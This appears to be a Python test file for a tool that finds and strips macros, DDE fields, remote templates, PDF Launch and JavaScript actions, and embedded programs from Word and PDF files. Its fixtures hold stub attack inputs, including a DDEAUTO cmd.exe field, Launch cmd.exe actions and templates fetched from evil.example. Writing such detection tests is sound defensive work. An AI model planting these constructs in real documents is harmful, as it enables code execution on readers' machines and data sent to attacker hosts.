"""What acts by itself in a file is told, whatever it is called; a copy is without it and whole."""

import io
import zipfile
from pathlib import Path

import pytest
from pypdf import PdfReader
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject

from kompas.files import inspection, kind
from tests.unit.files import made
from tests.unit.files.made import (
    MACRO_MAIN,
    OLE,
    RELS,
    TEXT,
    VBA,
    action,
    note,
    pdf,
    relations,
    sheet,
    word,
    zipped,
)

VBA_KIND = "application/vnd.ms-office.vbaProject"
GO = ArrayObject([NumberObject(0), NameObject("/Fit")])


def field(code: str) -> str:
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
        f'{code}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def split(code: str) -> str:
    """A code in two runs."""
    return field(f"{code[:2]}</w:instrText></w:r><w:r><w:instrText>{code[2:]}")


HARMLESS = {
    "a document": word(),
    "a link": word({RELS: relations(("r1", "hyperlink", "https://kl.dk", True))}),
    "a sheet in it": word(
        {
            RELS: relations(("r1", "package", "embeddings/a.xlsx", False)),
            "word/embeddings/a.xlsx": sheet(),
        }
    ),
    "something called as a macro is": word({"word/vbaProject.bin.xml": "<x/>"}),
    "an object of no bytes that act": word({"word/embeddings/oleObject1.bin": b"x"}),
    "a template on the writer's own drive": word(
        {
            "word/_rels/settings.xml.rels": relations(
                ("r1", "attachedTemplate", "file:///C:/Skabeloner/Brev.dotx", True)
            )
        }
    ),
    "page numbers": word(body=field(" PAGE ")),
    "prefixes that nobody declared": zipped(
        {"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>"}
    ),
    "a pdf": pdf(),
    "a pdf that opens at a page": pdf(OpenAction=action("GoTo", D=GO)),
    "a pdf that opens at a place": pdf(OpenAction=GO),
    "a pdf with a link": pdf(note("Link", A=action("URI", URI="https://kl.dk"))),
    "a pdf with a heading of that name": pdf(note("Text", Contents=NameObject("/JavaScript"))),
    "a broken pdf": b"\r\n%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj trailer<</Root 1 0 R>>\n%%EOF\n",
    "a text": b"Notat om /JavaScript og makroer",
    "a picture": b"\x89PNG\r\n\x1a\n" + b"\0" * 60 + b"IEND",
}
ACTIVE = {
    "macros": (
        word({"word/vbaProject.bin": VBA}, overrides={"/word/vbaProject.bin": VBA_KIND}),
        "macros",
    ),
    "macros under another name": (
        word({"word/media/image1.png": VBA}, overrides={"/word/media/image1.png": VBA_KIND}),
        "macros",
    ),
    "macros that only their bytes tell": (word({"word/media/image1.png": VBA}), "macros"),
    "macros that only the relation tells": (
        word(
            {
                RELS: relations(("r1", "vbaProject", "theme/theme9.xml", False)),
                "word/theme/theme9.xml": "<x/>",
            }
        ),
        "macros",
    ),
    "a document that may have macros": (word(main=MACRO_MAIN), "macros"),
    "a template from elsewhere": (
        word(
            {
                "word/_rels/settings.xml.rels": relations(
                    ("r1", "attachedTemplate", "https://evil.example/a.dotm", True)
                )
            }
        ),
        "remote",
    ),
    "a template from a share": (
        word(
            {
                "word/_rels/settings.xml.rels": relations(
                    ("r1", "attachedTemplate", "\\\\evil\\a.dotm", True)
                )
            }
        ),
        "remote",
    ),
    "a picture from elsewhere": (
        word({RELS: relations(("r1", "image", "http://evil.example/a.png", True))}),
        "remote",
    ),
    "a field that fetches": (word(body=field(' DDEAUTO c:\\cmd.exe "/k" ')), "remote"),
    "a field in two runs": (word(body=split('DDE excel "a"')), "remote"),
    "a simple field": (
        word(body='<w:fldSimple w:instr=" INCLUDETEXT http://evil.example/a "/>'),
        "remote",
    ),
    "a packaged program": (
        word(
            {
                RELS: relations(("r1", "oleObject", "embeddings/oleObject1.bin", False)),
                "word/embeddings/oleObject1.bin": OLE,
            },
            body=TEXT + '<w:p><w:object><o:OLEObject r:id="r1"/></w:object></w:p>',
        ),
        "embedded",
    ),
    "a program as a picture": (word({"word/media/image1.emf": b"MZ\x90"}), "embedded"),
    "a sheet with macros in it": (
        word({"word/embeddings/a.xlsx": sheet(**{"xl/theme/theme1.xml": VBA})}),
        "embedded",
    ),
    "a document of another form": (
        word(
            {RELS: relations(("r1", "aFChunk", "a.html", False)), "word/a.html": "<p/>"},
            body=TEXT + '<w:altChunk r:id="r1"/>',
        ),
        "embedded",
    ),
    "an ActiveX control": (
        word(
            {"word/activeX/a.xml": "<x/>"},
            overrides={"/word/activeX/a.xml": "application/vnd.ms-office.activeX+xml"},
        ),
        "program",
    ),
    "a script": (made.with_script(), "script"),
    "a script that opens": (pdf(OpenAction=action("JavaScript", JS="app.alert(1)")), "script"),
    "a program that opens": (pdf(OpenAction=action("Launch", F="cmd.exe")), "program"),
    "an address that opens": (
        pdf(OpenAction=action("URI", URI="https://evil.example")),
        "automatic",
    ),
    "a program at a click": (pdf(note("Link", A=action("Launch", F="cmd.exe"))), "program"),
    "one action after another": (
        pdf(note("Link", A=action("URI", URI="https://kl.dk", Next=action("JavaScript", JS="x")))),
        "script",
    ),
    "an action of a page": (
        pdf(note("Widget", AA=DictionaryObject({NameObject("/E"): action("JavaScript", JS="x")}))),
        "automatic",
    ),
    "a file within": (made.with_file(), "embedded"),
    "a file on a page": (pdf(note("FileAttachment")), "embedded"),
    "film": (pdf(note("RichMedia")), "media"),
    "a form that sends": (
        pdf(note("Widget", A=action("SubmitForm", F="https://evil.example"))),
        "sending",
    ),
    "a dynamic form": (pdf(AcroForm=DictionaryObject({NameObject("/XFA"): ArrayObject()})), "form"),
    "a script behind a password that is none": (
        pdf(OpenAction=action("JavaScript", JS="x"), password=""),
        "script",
    ),
}
CANNOT_BE_CLEANED = {
    "a broken pdf with a script": b"%PDF-1.4\n<</OpenAction<</S/JavaScript/JS(x)>>>>\n%%EOF\n",
    "a broken pdf with a name in signs": b"%PDF-1.4\n1 0 obj<</S/#4aavaScript/J#53(x)>>\n%%EOF\n",
}


def looked_at(content: bytes, folder: Path) -> dict[str, object]:
    path = folder / "fil"
    path.write_bytes(content)
    return inspection.inspect(path, tell=None)  # type: ignore[arg-type]


@pytest.mark.parametrize("name", HARMLESS)
def test_what_does_nothing_is_let_in(name: str, tmp_path: Path) -> None:
    assert looked_at(HARMLESS[name], tmp_path) == {"active": [], "unread": ""}


@pytest.mark.parametrize("name", ACTIVE)
def test_what_acts_is_told(name: str, tmp_path: Path) -> None:
    content, what = ACTIVE[name]
    found = looked_at(content, tmp_path)
    assert what in found["active"]  # type: ignore[operator]


@pytest.mark.parametrize("name", ACTIVE)
def test_the_copy_is_without_it_and_whole(name: str, tmp_path: Path) -> None:
    path, into = tmp_path / "fil", tmp_path / "kopi"
    path.write_bytes(ACTIVE[name][0])
    assert inspection.clean(path, into, tell=None) == {"active": [], "unread": ""}  # type: ignore[arg-type]
    assert kind.media_type_of(into) == kind.media_type_of(path)
    if kind.media_type_of(into) == kind.PDF:
        assert len(PdfReader(into).pages) == 1
    else:
        with zipfile.ZipFile(into) as parts:
            document = parts.read("word/document.xml").decode()
            assert 'mc:Ignorable="w14"' in document
            if "Udtalelse" in zipfile.ZipFile(path).read("word/document.xml").decode():
                assert TEXT in document
            assert "macroEnabled" not in parts.read("[Content_Types].xml").decode()
            points = [n for n in parts.namelist() if n.endswith(".rels")]
            assert not any(
                'Id="r1"' in parts.read(n).decode() for n in points if RELS in ACTIVE[name][1]
            )
            if "OLEObject" in document:
                assert 'r:id="r1"' not in document


@pytest.mark.parametrize("name", CANNOT_BE_CLEANED)
def test_what_cannot_be_cleaned_is_told_all_the_same(name: str, tmp_path: Path) -> None:
    content = CANNOT_BE_CLEANED[name]
    assert "script" in looked_at(content, tmp_path)["active"]  # type: ignore[operator]


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (pdf(password="kode"), "locked"),  # noqa: S106 - nobody's
        (word({"word/_rels/document.xml.rels": "<Relationships"}), "broken"),
        (word({"word/a.xml": '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'}), "broken"),
        (word({"Word/Document.xml": "<x/>"}), "broken"),
        (word({"word/b.xml": "<x>".encode("utf-16")}), "broken"),
    ],
    ids=["a password", "half a part", "a document type", "two parts of one name", "half in utf-16"],
)
def test_what_nobody_can_look_into_is_told(content: bytes, why: str, tmp_path: Path) -> None:
    assert looked_at(content, tmp_path)["unread"] == why


def test_a_part_that_unpacks_to_too_much_is_not_unpacked(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("kompas.files.word_parts.LARGEST_ZIP_PART_BYTES", 10_000)
    assert looked_at(word({"word/a.txt": b"\0" * 10_001}), tmp_path)["unread"] == "broken"


def test_a_program_is_found_however_deep_it_lies(tmp_path: Path) -> None:
    inner = sheet(**{"xl/a.bin": b"MZ\x90"})
    for _depth in range(5):
        inner = sheet(**{"xl/embeddings/b.xlsx": inner})
    assert looked_at(word({"word/embeddings/a.xlsx": inner}), tmp_path)["active"] == ["embedded"]


def test_the_bytes_of_a_document_stay_as_they_were(tmp_path: Path) -> None:
    """A clean copy of a clean document has the same parts."""
    path, into = tmp_path / "fil", tmp_path / "kopi"
    path.write_bytes(word({RELS: relations(("r1", "hyperlink", "https://kl.dk", True))}))
    inspection.clean(path, into, tell=None)  # type: ignore[arg-type]

    def parts(file: Path) -> dict[str, bytes]:
        with zipfile.ZipFile(io.BytesIO(file.read_bytes())) as found:
            return {name: found.read(name) for name in found.namelist()}

    assert parts(into) == parts(path)
